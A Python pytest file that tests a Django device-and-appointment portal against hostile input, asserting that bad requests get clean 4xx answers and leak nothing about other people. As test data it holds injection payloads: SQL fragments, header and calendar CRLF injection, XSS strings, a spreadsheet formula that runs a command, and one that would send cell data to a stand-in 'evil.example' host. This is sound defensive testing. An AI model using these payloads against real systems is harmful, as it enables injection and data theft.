"""A hostile sender and insiders against what issue 22 added.

Losses reported by the wearer and the desk, Device IDs matched trimmed and in
any case, booking's calendar file and links, the waitlist, the asset team's
stock and inventory checks, label sheets and background device imports.
Rule of the house: bad input is a clear 4xx and loses nothing valid, never a
500, and nothing about another person leaks.
"""

import io
import json
from datetime import time, timedelta
from email import message_from_bytes

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar

from appointments import services as appointments
from appointments.models import Location, WaitlistEntry
from assets.imports import device_import_run
from assets.inventory import inventory_compare
from assets.models import Device, DeviceImport, DeviceState, InventoryCheck
from desk import services
from registration.models import Association, LostReport
from tests import personas
from tests.appointments.factories import make_campaign, make_location
from tests.registration.factories import make_device, make_person

pytestmark = pytest.mark.django_db(databases="__all__")

STARTED = timezone.now().replace(microsecond=0) - timedelta(days=3)
LOST_URL = "/api/selfservice/device-lost"
INVENTORY_URL = "/api/assets/inventory-checks"


def post(client, url, body):
    raw = body if isinstance(body, (str, bytes)) else json.dumps(body)
    return client.generic("POST", url, raw, content_type="application/json")


def snapshot():
    return (
        sorted(Association.objects.values_list("device_id", "ended_at", "end_reason"), key=str),
        sorted(Device.objects.values_list("device_id", "state")),
        sorted(LostReport.objects.values_list("device_id", "lost_at"), key=str),
    )


# --- Losses reported by the wearer -------------------------------------------------------


@pytest.fixture
def holders(desk):
    """Ines holds P-0300, Bart holds P-0400, both since three days."""
    make_person("710243", "Ines", "Adams"), make_person("820002", "Bart", "Baker")
    make_device("P-0300"), make_device("P-0400")
    services.device_assign(device_id="P-0300", person_id="710243", acting_user=desk, at=STARTED)
    services.device_assign(device_id="P-0400", person_id="820002", acting_user=desk, at=STARTED)


def ines(client=None):
    client = client or Client()
    client.force_login(personas.wearer("710243"))
    return client


@pytest.mark.parametrize(
    "device_id",
    [
        "P-0400\x00",  # a NUL byte
        "P-0300\x00",  # one's own device with a NUL byte
        "\u0420-0300",  # Cyrillic Er looks like P
        "\uff30-0300",  # fullwidth P
        "P-0300\u200b",  # a zero-width space no strip removes
        "P\u20110300",  # a non-breaking hyphen
        "P-03OO",  # letter O for zero
        "P-0300\r\nX-Evil: 1",
        "P-0300;DROP TABLE",
        "%",  # a LIKE wildcard
        "_-____",
        "P" * 100_000,
    ],
)
def test_a_lookalike_or_hostile_device_id_is_refused_and_changes_nothing(
    client, holders, device_id
):
    before = snapshot()
    answer = post(ines(client), LOST_URL, {"device_id": device_id})
    assert 400 <= answer.status_code < 500, answer.content
    assert snapshot() == before
    text = answer.content.decode()
    assert (
        "Bart" not in text and "820002" not in text and "P-0400" not in text.replace(device_id, "")
    )
    assert "no-store" in answer["Cache-Control"]


@pytest.mark.parametrize("what", ["lost", "broken"])
def test_a_wearers_own_report_never_names_them_in_the_device_history(client, holders, what):
    """The assets database must not link people to tags: a wearer's account is a person."""
    from assets.models import DeviceEvent

    assert post(ines(client), LOST_URL, {"device_id": "P-0300", "what": what}).status_code == 200
    actors = set(DeviceEvent.objects.values_list("actor", flat=True))
    notes = " ".join(DeviceEvent.objects.values_list("note", flat=True))
    wearer = personas.wearer("710243")
    assert wearer.username not in actors and "710243" not in " ".join(actors) + notes
    assert DeviceEvent.objects.filter(to_state=what).get().actor == "the holder (MY DATA)"
    # Who reported it stays where people are: the holding and the lost report.
    assert Association.objects.get(device_id="P-0300").ended_by == wearer.username


def test_another_persons_device_and_no_device_get_the_same_answer(client, holders):
    """A wearer cannot learn whether an ID exists or who holds it from the refusal."""
    bart = post(ines(client), LOST_URL, {"device_id": "P-0400"})
    nobody = post(client, LOST_URL, {"device_id": "P-9999"})
    assert bart.status_code == nobody.status_code == 403
    assert bart.json()["detail"].replace("P-0400", "X") == nobody.json()["detail"].replace(
        "P-9999", "X"
    )


def test_the_same_loss_reported_twice_is_recorded_once(client, holders):
    first = post(ines(client), LOST_URL, {"device_id": "P-0300"})
    assert first.status_code == 200
    after_first = snapshot()
    again = post(client, LOST_URL, {"device_id": "p-0300 "})
    assert again.status_code == 409
    assert again.json()["detail"].startswith("Your device P-0300 is already recorded as lost")
    assert snapshot() == after_first
    assert LostReport.objects.count() == 1


def test_the_same_breakage_reported_twice_is_recorded_once(client, holders):
    body = {"device_id": "P-0300", "what": "broken"}
    assert post(ines(client), LOST_URL, body).status_code == 200
    after_first = snapshot()
    again = post(client, LOST_URL, body)
    assert again.status_code == 409
    assert again.json()["detail"].startswith("Your device P-0300 is already recorded as broken")
    assert snapshot() == after_first


def test_a_replay_after_the_desk_found_the_device_or_handed_a_new_one_is_refused(
    client, holders, desk
):
    assert post(ines(client), LOST_URL, {"device_id": "P-0300"}).status_code == 200
    services.device_mark_found(device_id="P-0300", acting_user=desk)
    before = snapshot()
    found = post(client, LOST_URL, {"device_id": "P-0300"})
    assert found.status_code == 403 and snapshot() == before
    make_device("P-0500")
    services.device_assign(device_id="P-0500", person_id="710243", acting_user=desk)
    before = snapshot()
    old = post(client, LOST_URL, {"device_id": "P-0300"})
    assert old.status_code == 403 and snapshot() == before


def test_a_replay_after_the_broken_device_went_to_someone_else_tells_nothing(client, holders, desk):
    from assets.services import device_return_from_repair, device_send_for_repair

    body = {"device_id": "P-0300", "what": "broken"}
    assert post(ines(client), LOST_URL, body).status_code == 200
    device_send_for_repair(device_id="P-0300", acting_user=desk, note="")
    device_return_from_repair(device_id="P-0300", acting_user=desk, note="")
    make_person("830003", "Cleo", "Cole")
    services.device_assign(device_id="P-0300", person_id="830003", acting_user=desk)
    before = snapshot()
    again = post(client, LOST_URL, body)
    assert again.status_code == 403 and snapshot() == before
    assert "already" not in again.json()["detail"] and "Cleo" not in again.json()["detail"]


def test_a_replay_of_another_persons_loss_tells_nothing(client, holders, desk):
    services.device_report_lost(device_id="P-0400", acting_user=desk)
    answer = post(ines(client), LOST_URL, {"device_id": "P-0400"})
    assert answer.status_code == 403
    assert "already" not in answer.json()["detail"]


@pytest.mark.parametrize(
    "at",
    [
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-12:00",
        "2199-12-31T23:59:59Z",  # in range, far in the future
        "1970-01-01T00:00:00Z",  # in range, before the holding
        "not a time",
        "2026-02-30T10:00:00Z",
        12345,
        ["2026-01-01T00:00:00Z"],
        {"at": "2026-01-01T00:00:00Z"},
    ],
)
def test_a_loss_at_an_impossible_time_is_refused(client, holders, at):
    before = snapshot()
    answer = post(ines(client), LOST_URL, {"device_id": "P-0300", "at": at})
    assert answer.status_code == 400, answer.content
    assert snapshot() == before


def test_a_body_nested_deep_or_no_json_at_all_is_a_400(client, holders):
    before = snapshot()
    for body in ["[" * 50_000 + "]" * 50_000, '{"device_id": "P-0300"', b"\xff\xfe", "null"]:
        answer = post(ines(client), LOST_URL, body)
        assert 400 <= answer.status_code < 500, (body[:20], answer.status_code)
    assert snapshot() == before


# --- Losses recorded by the desk ------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        {"device_id": "P-0400", "person_id": "710243"},  # Bart's device, Ines at the counter
        {"device_id": "P-0300", "person_id": "710243\x00"},
        {"device_id": "P-0300", "lost_at": "0001-01-01T00:00:00Z"},
        {"device_id": "P-0300", "lost_at": "9999-12-31T23:59:59Z"},
        {"device_id": "P-0300", "person_id": "7" * 10_000},
        {"device_id": "\u0420-0300"},
    ],
)
def test_the_desk_cannot_end_a_holding_with_a_wrong_or_hostile_request(client, holders, body):
    client.force_login(personas.clerk())
    before = snapshot()
    answer = post(client, reverse("device-report-lost"), body)
    assert 400 <= answer.status_code < 500, answer.content
    assert snapshot() == before


def test_the_desk_reporting_the_same_loss_twice_records_one_report(client, holders):
    client.force_login(personas.clerk())
    assert post(client, reverse("device-report-lost"), {"device_id": "P-0300"}).status_code == 200
    again = post(client, reverse("device-report-lost"), {"device_id": " p-0300"})
    assert again.status_code == 409
    assert "already reported lost" in again.json()["detail"]
    assert LostReport.objects.count() == 1


def test_the_desks_answers_name_the_device_as_stored_not_as_typed(client, holders):
    """A scanner's ` p-0300` is P-0300: every answer names the device by its ID."""
    client.force_login(personas.clerk())
    make_device("P-0600")

    def said(name, body):
        answer = post(client, reverse(name), body)
        assert answer.status_code == 200, answer.content
        return answer.json()["message"]

    assert said("device-report-lost", {"device_id": " p-0600"}).startswith("Device P-0600 ")
    assert said("device-mark-found", {"device_id": "p-0600 "}).startswith("Device P-0600 ")
    assert said("device-restock", {"device_id": "p-0600", "note": "ok"}).startswith(
        "Device P-0600 "
    )
    assert said("device-mark-broken", {"device_id": "p-0600", "note": "x"}).startswith(
        "Device P-0600 "
    )
    assert said("device-retire", {"device_id": "p-0600", "note": "x"}).startswith("Device P-0600 ")
    assert said("device-report-lost", {"device_id": "p-0300"}).startswith("Device P-0300 ")
    assert said("device-mark-found", {"device_id": "p-0300"}).startswith("Device P-0300 ")


# --- Booking: calendar file, links, waitlist -----------------------------------------------


HOSTILE_NAME = 'Hall\r\nATTENDEE;CN=Eve:mailto:eve@example.org\r\nX-EVIL:"1'


@pytest.fixture
def hostile_booking(client):
    """Alice books at a location whose name and address try to add calendar properties."""
    make_person("810001", "Alice\r\nORGANIZER:mailto:eve@example.org", "A", email="a@example.org")
    location = make_location(HOSTILE_NAME, address="Road 1\nDESCRIPTION:=HYPERLINK()")
    campaign = make_campaign([location], name="<script>alert(1)</script>\r\nBEGIN:VEVENT")
    slot = campaign.slots.order_by("starts_at").first()
    client.force_login(personas.wearer("810001"))
    answer = post(client, reverse("my-bookings"), {"slot_id": slot.pk})
    assert answer.status_code == 201, answer.content
    return answer.json()


def test_line_breaks_in_names_never_add_calendar_properties(client, hostile_booking):
    answer = client.get(hostile_booking["calendar"]["ics"])
    assert answer.status_code == 200
    assert "no-store" in answer["Cache-Control"]
    calendar = Calendar.from_ical(answer.content)
    [event] = calendar.walk("VEVENT")
    assert len(event.get("attendee") if isinstance(event.get("attendee"), list) else [1]) == 1
    assert "eve@example.org" not in str(event.get("organizer"))
    assert "X-EVIL" not in event and len(calendar.walk("VEVENT")) == 1
    assert str(event["location"]).startswith(HOSTILE_NAME.split("\r\n")[0])
    lines = answer.content.decode().split("\r\n")
    names = [line.split(":")[0].split(";")[0] for line in lines if line and line[0] != " "]
    assert names.count("ATTENDEE") == 1 and names.count("ORGANIZER") == 1
    assert "X-EVIL" not in names and names.count("BEGIN") == 2  # VCALENDAR, VEVENT


def test_the_calendar_links_carry_names_only_as_url_parameters(client, hostile_booking):
    for link in (hostile_booking["calendar"]["google"], hostile_booking["calendar"]["outlook"]):
        assert link.startswith("https://")
        assert not any(c in link for c in "\r\n <>\"'")


@pytest.mark.parametrize("booking_id", ["0", "99999999999999999999", "-1", "1.5", "%00", "1%0a"])
def test_a_forged_booking_id_is_a_404(client, hostile_booking, booking_id):
    for url in (
        f"/api/appointments/mine/bookings/{booking_id}/calendar.ics",
        f"/api/appointments/mine/bookings/{booking_id}/cancel",
        f"/api/appointments/mine/bookings/{booking_id}/reschedule",
    ):
        answer = client.get(url) if url.endswith(".ics") else post(client, url, {"slot_id": 1})
        assert answer.status_code == 404, (url, answer.status_code)


@pytest.mark.parametrize(
    "slot_id", [99999999999999999999, -1, 0, "1; DROP TABLE", None, [1], {"id": 1}, 1e308, True]
)
def test_a_forged_slot_id_is_a_4xx_and_books_nothing(client, hostile_booking, slot_id):
    answer = post(client, reverse("my-bookings"), {"slot_id": slot_id})
    assert 400 <= answer.status_code < 500, answer.content
    moved = post(
        client, reverse("my-booking-reschedule", args=[hostile_booking["id"]]), {"slot_id": slot_id}
    )
    assert 400 <= moved.status_code < 500, moved.content
    [mine] = client.get(reverse("my-bookings")).json()
    assert (mine["id"], mine["slot_id"]) == (hostile_booking["id"], hostile_booking["slot_id"])


def test_free_slots_refuse_a_forged_location(client, hostile_booking):
    campaign_id = hostile_booking["campaign"]["id"]
    for location in ["99999999999999999999", "-1", "x", "1\x00"]:
        answer = client.get(reverse("free-slots", args=[campaign_id]), {"location": location})
        assert 400 <= answer.status_code < 500, (location, answer.status_code)
    huge = client.get("/api/appointments/mine/campaigns/99999999999999999999/slots")
    assert huge.status_code == 404


@pytest.fixture
def full_day():
    """A one-day campaign whose two times are taken by others; Alice may wait for that day."""
    campaign = make_campaign(
        [make_location("Desk", hours=[(time(9), time(10))])], days=1, slot_minutes=30, capacity=1
    )
    for n, slot in enumerate(campaign.slots.order_by("starts_at")):
        appointments.booking_create(
            person=make_person(f"9{n}", email=f"p{n}@x.org"), slot_id=slot.pk
        )
    make_person("810001", "Alice", "Adams", email="alice@example.org")
    day = timezone.localtime(campaign.slots.first().starts_at).date()
    return campaign, day


def test_waiting_twice_for_the_same_day_is_one_entry(client, full_day):
    campaign, day = full_day
    client.force_login(personas.wearer("810001"))
    url = reverse("my-waitlist-join", args=[campaign.pk])
    for _ in range(3):
        assert post(client, url, {"day": day.isoformat()}).status_code == 201
    assert WaitlistEntry.objects.count() == 1


def test_a_person_without_an_e_mail_address_is_told_they_could_not_be_told(client, full_day):
    """Waiting is answered by e-mail only: without an address it would be a silent promise."""
    campaign, day = full_day
    make_person("810009", "Noe", email="")
    client.force_login(personas.wearer("810009"))
    answer = post(client, reverse("my-waitlist-join", args=[campaign.pk]), {"day": day.isoformat()})
    assert answer.status_code == 409
    assert answer.json()["detail"].startswith("We have no e-mail address for you")
    assert not WaitlistEntry.objects.exists()


@pytest.mark.parametrize(
    "day",
    ["0001-01-01", "9999-12-31", "2199-01-01", "1970-01-01", "2026-13-01", "", None, ["x"], 1],
)
def test_waiting_for_an_impossible_day_is_a_4xx(client, full_day, day):
    campaign, _ = full_day
    client.force_login(personas.wearer("810001"))
    answer = post(client, reverse("my-waitlist-join", args=[campaign.pk]), {"day": day})
    assert 400 <= answer.status_code < 500, answer.content
    assert not WaitlistEntry.objects.exists()


def test_a_person_never_sees_another_persons_waitlist_days(client, full_day):
    campaign, day = full_day
    make_person("810002", "Bob", email="bob@example.org")
    client.force_login(personas.wearer("810002"))
    post(client, reverse("my-waitlist-join", args=[campaign.pk]), {"day": day.isoformat()})
    alice = Client()
    alice.force_login(personas.wearer("810001"))
    [mine] = alice.get(reverse("my-campaigns")).json()
    assert mine["waiting_days"] == []


def test_a_campaign_not_open_to_me_is_a_404_for_the_waitlist(client, full_day):
    campaign, day = full_day
    campaign.kind = "recall"
    campaign.save(update_fields=["kind"])
    client.force_login(personas.wearer("810001"))
    answer = post(client, reverse("my-waitlist-join", args=[campaign.pk]), {"day": day.isoformat()})
    assert answer.status_code == 404
    assert not WaitlistEntry.objects.exists()


# --- The asset team: inventory checks, stock ------------------------------------------------


def test_a_million_scans_are_refused_without_a_server_error(client, asset_manager):
    make_device("S-1")
    client.force_login(asset_manager)
    answer = post(client, INVENTORY_URL, {"scanned": ["S-1"] * 1_000_000})
    assert answer.status_code == 413
    assert answer.json()["detail"].startswith("The request is larger than the portal reads")
    assert "no-store" in answer["Cache-Control"]
    assert not InventoryCheck.objects.exists()


def test_one_scan_too_many_says_how_many_a_check_holds(client, asset_manager):
    client.force_login(asset_manager)
    answer = post(client, INVENTORY_URL, {"scanned": ["S-1"] * 20_001})
    assert answer.status_code == 400
    assert answer.json()["scanned"] == [
        "A check holds at most 20000 scans: finish this check, then check the rest of the "
        "shelf in another one."
    ]
    assert not InventoryCheck.objects.exists()


@pytest.mark.parametrize(
    "scanned",
    [
        ["S-1\x00"],
        ["\u0405-1"],  # Cyrillic Dze looks like S
        ["S-1\u200b"],
        ["S" * 10_000],
        [["S-1"]],
        [{"id": "S-1"}],
        [None],
        "S-1",
        {"S-1": 1},
    ],
)
def test_a_hostile_scan_is_a_400_and_records_no_check(client, asset_manager, scanned):
    make_device("S-1")
    client.force_login(asset_manager)
    answer = post(client, INVENTORY_URL, {"scanned": scanned})
    assert answer.status_code == 400, answer.content
    assert not InventoryCheck.objects.exists()


def test_two_devices_whose_ids_differ_only_by_case_are_both_counted(client, asset_manager):
    """An old import kept `C-1` and `c-1`: the check must not lose one of them."""
    make_device("C-1"), make_device("c-1")
    client.force_login(asset_manager)
    nothing = post(client, INVENTORY_URL, {"scanned": []}).json()
    assert nothing["missing"] == ["C-1", "c-1"] and nothing["expected_count"] == 2
    one = post(client, INVENTORY_URL, {"scanned": ["c-1"]}).json()
    assert one["missing"] == ["C-1"] and one["unexpected"] == []
    both = post(client, INVENTORY_URL, {"scanned": ["C-1", "c-1"]}).json()
    assert both["missing"] == [] and both["scanned_count"] == 2


def test_a_scan_that_fits_two_such_devices_is_refused_and_says_how(client, asset_manager):
    make_device("Ab-1"), make_device("aB-1")
    client.force_login(asset_manager)
    answer = post(client, INVENTORY_URL, {"scanned": ["AB-1"]})
    assert answer.status_code == 400
    assert "fits several devices (Ab-1, aB-1)" in answer.json()["detail"]
    assert not InventoryCheck.objects.exists()


def test_the_compare_never_loses_a_stored_device():
    missing, unexpected, _ = inventory_compare(
        devices=[("C-1", DeviceState.IN_STOCK), ("c-1", DeviceState.LOST)], scanned=[]
    )
    assert missing == ["C-1"] and unexpected == []
    missing, unexpected, _ = inventory_compare(
        devices=[("C-1", DeviceState.IN_STOCK), ("c-1", DeviceState.LOST)], scanned=["c-1"]
    )
    assert missing == ["C-1"] and unexpected == [{"device_id": "c-1", "reason": "lost"}]


@pytest.mark.parametrize("who", ["person", "clerk", "medic", "privacy_officer", "superuser"])
def test_only_the_asset_team_checks_inventory_or_reads_the_stock(client, who, db):
    make_device("S-1")
    client.force_login(getattr(personas, who)())
    assert post(client, INVENTORY_URL, {"scanned": ["S-1"]}).status_code == 403
    assert client.get(INVENTORY_URL).status_code == 403
    assert client.get(reverse("assets-stock")).status_code == 403
    assert not InventoryCheck.objects.exists()


# --- Labels and background imports in the admin ----------------------------------------------


def test_a_label_sheet_escapes_a_batch_name(client, asset_manager):
    make_device("L-1", batch='<img src=x onerror="alert(1)">')
    client.force_login(asset_manager)
    pk = Device.objects.get().pk
    page = client.post(
        "/admin/assets/device/", {"action": "print_labels", "_selected_action": [pk]}
    )
    assert page.status_code == 200 and "no-store" in page["Cache-Control"]
    assert b'<img src=x onerror="alert(1)">' not in page.content
    assert b"&lt;img src=x" in page.content


def upload(client, data: bytes, name: str):
    file = io.BytesIO(data)
    file.name = name
    return client.post("/admin/assets/device/import/", {"file": file})


def run_the_only_import():
    job = DeviceImport.objects.get()
    device_import_run(import_id=job.pk)
    job.refresh_from_db()
    return job


@pytest.mark.parametrize(
    "data",
    [
        b"[" * 200_000 + b"]" * 200_000,  # nested deeper than any parser recurses
        b'[{"device_id": "D-1", "tag_id": ' + b"9" * 5000 + b"}]",  # a number no int() reads
        b'[{"device_id": {"a": [' * 3000 + b"]}" * 3000 + b"]",
    ],
)
def test_a_hostile_json_import_fails_the_job_with_a_reason(client, asset_manager, data):
    client.force_login(asset_manager)
    assert upload(client, data, "delivery.json").status_code == 302
    job = run_the_only_import()
    assert job.status in ("failed", "done"), job.status
    assert bytes(job.data) == b""  # not kept
    page = client.get(f"/admin/assets/device/import/{job.pk}/")
    assert page.status_code == 200 and b'http-equiv="refresh"' not in page.content
    assert "no-store" in page["Cache-Control"]
    assert not Device.objects.exists()


def test_an_import_that_crashes_fails_its_job_and_logs_no_row(
    client, asset_manager, monkeypatch, caplog
):
    client.force_login(asset_manager)
    upload(client, b"device_id,tag_id,dev_eui\nD-1,1,70B3D57ED0000001\n", "delivery.csv")

    def crash(**kwargs):
        raise RuntimeError("row D-1 70B3D57ED0000001")

    monkeypatch.setattr("assets.imports.import_devices", crash)
    job = run_the_only_import()
    assert job.status == "failed" and job.summary.startswith("Nothing was imported")
    assert bytes(job.data) == b""
    assert "70B3D57ED0000001" not in caplog.text and "D-1" not in caplog.text


def test_an_import_file_larger_than_any_delivery_is_refused_at_once(client, asset_manager):
    client.force_login(asset_manager)
    big = b"device_id,tag_id\n" + b"D-1,1\n" * (40 * 1024 * 1024 // 6)
    answer = upload(client, big, "delivery.csv")
    assert answer.status_code == 200
    assert b"nothing was imported" in answer.content
    assert not DeviceImport.objects.exists()


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"device_id,tag_id\n" + b"\n" * 1_100_000, "delivery.csv"),
        (b"device_id,tag_id\r" + b",\r" * 1_100_000, "delivery.csv"),
        (b"[" + b"{}," * 1_100_000 + b"{}]", "delivery.json"),
    ],
    ids=["empty lines", "carriage returns", "empty objects"],
)
def test_a_small_file_of_a_million_empty_rows_is_refused_before_it_is_split(
    client, asset_manager, data, name
):
    """Under the size limit, each empty row would still become an object in the worker."""
    client.force_login(asset_manager)
    upload(client, data, name)
    job = run_the_only_import()
    assert job.status == "failed", job.summary
    assert "more than 1,000,000" in job.summary and not Device.objects.exists()


def test_hostile_ids_in_an_import_are_row_errors_and_good_rows_still_go_in(client, asset_manager):
    client.force_login(asset_manager)
    text = (
        "device_id,tag_id,batch\n"
        "D-1,1,B1\n"
        '"D-2\x00",2,B1\n'
        "\u0420-3,3,B1\n"
        '"D-4\n",4,B1\n'
        f"{'D' * 40},5,B1\n"
        "=cmd|'/c calc'!A1,6,B1\n"
        "D-7,7,<script>alert(1)</script>\n"
    )
    upload(client, text.encode(), "delivery.csv")
    job = run_the_only_import()
    assert job.status == "done"
    stored = dict(Device.objects.values_list("device_id", "batch"))
    # D-2 comes in without its NUL (the reader drops NUL bytes), D-4 trimmed like every cell;
    # the lookalike, the long ID and the formula are row errors; D-7 keeps its text.
    assert set(stored) == {"D-1", "D-2", "D-4", "D-7"}, stored
    assert job.summary.startswith("4 created")
    page = client.get(f"/admin/assets/device/import/{job.pk}/").content
    assert b"<script>alert(1)</script>" not in page
    changelist = client.get("/admin/assets/device/").content
    assert b"<script>alert(1)</script>" not in changelist


def test_another_import_id_or_a_forged_one_is_a_404_not_a_500(client, asset_manager):
    client.force_login(asset_manager)
    for import_id in ["999999", "99999999999999999999"]:
        assert client.get(f"/admin/assets/device/import/{import_id}/").status_code == 404


def test_names_in_my_data_csv_cannot_run_as_formulas(client, hostile_booking):
    """A campaign or location named like a formula stays text in MY DATA's spreadsheet."""
    import csv
    import zipfile

    from appointments.models import Campaign

    Campaign.objects.update(name='=HYPERLINK("http://evil.example/?"&A1,"Open")')
    Location.objects.update(name="@SUM(1+1)", address="+1-2")
    export = client.get("/api/selfservice/export")
    assert export.status_code == 200 and "no-store" in export["Cache-Control"]
    with zipfile.ZipFile(io.BytesIO(b"".join(export.streaming_content))) as bundle:
        text = bundle.read("my-data.csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    appointment = [c for c in cells if "HYPERLINK" in c]
    assert appointment and all(c.startswith("'") for c in appointment), appointment
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells


def test_markup_in_an_import_file_name_or_row_stays_text_on_the_result_page(client, asset_manager):
    client.force_login(asset_manager)
    name = '"><script>alert(1)</script>.csv'
    upload(client, b"device_id,tag_id\n<img src=x onerror=alert(1)>,1\n", name)
    job = run_the_only_import()
    assert job.status == "done" and job.messages
    page = client.get(f"/admin/assets/device/import/{job.pk}/").content
    assert b"<script>alert(1)</script>" not in page
    assert b"<img src=x" not in page and b"&lt;img src=x" in page


def test_a_label_sheet_larger_than_a_print_run_is_refused_with_a_message(client, asset_manager):
    Device.objects.bulk_create(
        Device(device_id=f"M-{n}", tag_id=n, state=DeviceState.IN_STOCK) for n in range(2001)
    )
    client.force_login(asset_manager)
    answer = client.post(
        "/admin/assets/device/",
        {"action": "print_labels", "select_across": "1", "index": "0", "_selected_action": ["1"]},
        follow=True,
    )
    assert answer.status_code == 200
    assert b"print at most 2000 labels at a time" in answer.content


@pytest.mark.parametrize("who", ["clerk", "medic", "privacy_officer", "person"])
def test_only_the_asset_team_prints_labels(client, who):
    make_device("L-1")
    client.force_login(getattr(personas, who)())
    answer = client.post(
        "/admin/assets/device/",
        {"action": "print_labels", "_selected_action": [Device.objects.get().pk]},
    )
    assert answer.status_code in (302, 403)
    assert b"<svg" not in answer.content


@pytest.mark.parametrize(
    "typed",
    ["%00", "P-0300%00", "%E2%80%8BP-0300", "%D0%A0-0300", "P" * 5000, "%25", "P-0300%0D%0AX:1"],
)
def test_the_desk_looking_up_a_hostile_device_id_gets_a_404_naming_no_one(client, holders, typed):
    client.force_login(personas.clerk())
    answer = client.get(f"/api/registration/devices/{typed}")
    assert answer.status_code == 404, answer.content[:200]
    assert "Ines" not in answer.content.decode() and len(answer.content) < 1000


def test_the_desk_finds_a_device_typed_in_lower_case_with_a_scanners_spaces(client, holders):
    client.force_login(personas.clerk())
    answer = client.get("/api/registration/devices/%20p-0300%09")
    assert answer.status_code == 200
    assert answer.json()["device"]["device_id"] == "P-0300"


def test_moving_a_booking_off_a_full_day_tells_whoever_waits_for_it(client, monkeypatch):
    """A move frees the old time as a cancellation does: the waitlist of that day hears."""
    campaign = make_campaign(
        [make_location("Desk", hours=[(time(9), time(10))])], days=2, slot_minutes=30, capacity=1
    )
    slots = list(campaign.slots.order_by("starts_at"))
    first_day = [s for s in slots if s.starts_at.date() == slots[0].starts_at.date()]
    alice = make_person("810001", "Alice", email="alice@example.org")
    bookings = [appointments.booking_create(person=alice, slot_id=first_day[0].pk)]
    bookings += [
        appointments.booking_create(person=make_person("9", email="p@x.org"), slot_id=s.pk)
        for s in first_day[1:]
    ]
    day = timezone.localtime(first_day[0].starts_at).date()
    waiting = make_person("810002", "Bob", email="bob@example.org")
    appointments.waitlist_join(person=waiting, campaign=campaign, day=day)
    queued = []
    monkeypatch.setattr(
        appointments, "enqueue_on_commit", lambda name, *args, using: queued.append((name, args))
    )
    later = next(s for s in slots if s not in first_day)
    client.force_login(personas.wearer("810001"))
    moved = post(
        client, reverse("my-booking-reschedule", args=[bookings[0].pk]), {"slot_id": later.pk}
    )
    assert moved.status_code == 200, moved.content
    assert ("appointments.waitlist_notify", (first_day[0].pk,)) in queued
    assert appointments.waitlist_notify(slot_id=first_day[0].pk) == ["810002"]


HEADERS = {
    "Content-Type",
    "Content-Transfer-Encoding",
    "MIME-Version",
    "Subject",
    "From",
    "To",
    "Date",
    "Message-ID",
}


def test_line_breaks_and_markup_in_names_never_reach_an_e_mails_headers(client, hostile_booking):
    """Every appointment e-mail builds; its subject is one line and adds no header."""
    from appointments import emails
    from appointments.models import Booking

    booking = Booking.objects.select_related("slot__location", "campaign", "person").get()
    entry = WaitlistEntry.objects.create(
        campaign=booking.campaign,
        person=booking.person,
        day=timezone.localdate(),
        created_at=timezone.now(),
    )
    messages = [emails.booking_email(booking, kind) for kind in emails.CALENDAR_METHOD]
    messages += [
        emails.waitlist_email(entry),
        emails.recall_invitation_email(booking.campaign, booking.person),
    ]
    for message in messages:
        parsed = message_from_bytes(message.message().as_bytes())
        assert set(parsed.keys()) <= HEADERS, parsed.keys()
        assert message.to == ["a@example.org"]
        assert "\n" not in message.subject and "\r" not in message.subject


def test_no_log_line_names_a_person_number_or_a_device_id(client, holders, caplog, desk):
    """Refusals and look-ups log their route, never the person or device in the path."""
    import logging

    caplog.set_level(logging.INFO)
    post(ines(client), LOST_URL, {"device_id": "P-0400"})  # 403: Bart's
    post(client, LOST_URL, {"device_id": "P-0300", "at": "0001-01-01T00:00:00Z"})  # 400
    assert post(client, LOST_URL, {"device_id": "P-0300"}).status_code == 200
    post(client, LOST_URL, {"device_id": "P-0300"})  # 409: again
    clerk = Client()
    clerk.force_login(personas.clerk())
    clerk.get("/api/registration/people/710243")
    clerk.get("/api/registration/people/999999")  # 404
    clerk.get("/api/registration/devices/p-0300")
    clerk.get("/api/registration/devices/P-9999")  # 404
    post(clerk, reverse("device-report-lost"), {"device_id": "P-0400", "person_id": "710243"})
    logged = caplog.text
    assert caplog.records  # the requests were logged, by route
    for secret in ("710243", "820002", "999999", "P-0300", "p-0300", "P-0400", "P-9999"):
        assert secret not in logged, secret


def test_an_e_mail_link_with_a_forged_booking_or_action_is_just_the_page(client, hostile_booking):
    """?booking=&action= is read by the page from my own bookings: the server echoes nothing."""
    for query in (
        "booking=<script>alert(1)</script>&action=cancel",
        "booking=1&action=%22%3E%3Cscript%3E",
        "booking=99999999999999999999&action=move",
        "booking=1&booking=2&action=move&action=cancel",
    ):
        page = client.get(f"/appointments/?{query}")
        assert page.status_code == 200
        assert b"<script>alert(1)" not in page.content and b'"><script>' not in page.content
        assert "no-store" in page["Cache-Control"]


@pytest.mark.parametrize("starts_in", [timedelta(minutes=-90), timedelta(minutes=5)])
def test_a_time_freed_too_late_to_book_sends_no_waitlist_e_mail(full_day, starts_in):
    """A place freed on a time that has passed or starts within the lead time frees nothing
    anyone can book: whoever waits is not sent to a day still full."""
    from appointments.models import Booking, Slot

    campaign, day = full_day
    waiting = make_person("810002", "Bob", email="bob@example.org")
    appointments.waitlist_join(person=waiting, campaign=campaign, day=day)
    booking = Booking.objects.order_by("pk").first()
    start = timezone.now() + starts_in
    Slot.objects.filter(pk=booking.slot_id).update(
        starts_at=start, ends_at=start + timedelta(minutes=30)
    )
    # Joined while the day was ahead and full; the day is now today.
    WaitlistEntry.objects.update(day=timezone.localtime(start).date())
    Booking.objects.filter(pk=booking.pk).update(status=Booking.Status.CANCELLED)
    assert appointments.waitlist_notify(slot_id=booking.slot_id) == []
    assert WaitlistEntry.objects.get().notified_at is None  # still waits for a real place


def test_an_old_link_cannot_cancel_or_move_an_appointment_whose_time_has_passed(
    client, hostile_booking
):
    """Replayed days later, the e-mail's cancel or move changes nothing: the desk's record
    of that time (checked in, or no-show) stays."""
    from appointments.models import Booking, Slot

    booking = Booking.objects.get()
    start = timezone.now() - timedelta(hours=1)
    Slot.objects.filter(pk=booking.slot_id).update(
        starts_at=start, ends_at=start + timedelta(minutes=15)
    )
    later = Slot.objects.exclude(pk=booking.slot_id).order_by("starts_at").last()
    cancel = post(client, reverse("my-booking-cancel", args=[booking.pk]), {})
